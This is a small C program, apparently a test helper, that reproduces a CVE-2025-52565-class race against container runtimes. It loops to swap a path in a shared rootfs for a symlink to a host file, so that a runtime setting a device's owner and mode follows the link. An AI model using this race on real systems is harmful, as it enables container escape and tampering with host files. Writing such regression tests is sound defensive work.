/* Plays a container that shares its rootfs with another one being created
 * (CVE-2025-52565 class: a name in the image swapped under the runtime's
 * feet): `dev_swap NAME TARGET` replaces NAME by a symlink to TARGET, over
 * and over, as fast as it can, until killed: a symlink made beside it is
 * renamed over it, so that the name is never missing for long. The runtime creating the other
 * container mknods a device at NAME and then sets its owner and mode; a
 * runtime that does so by name follows the symlink to TARGET, a host file.
 * Prints "swapping" once started. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: dev_swap NAME TARGET\n");
        return 2;
    }
    char beside[4096];
    if (snprintf(beside, sizeof beside, "%s.swap", argv[1]) >= (int)sizeof beside) return 2;
    printf("swapping\n");
    fflush(stdout);
    for (;;) {
        symlink(argv[2], beside);
        rename(beside, argv[1]);
    }
}
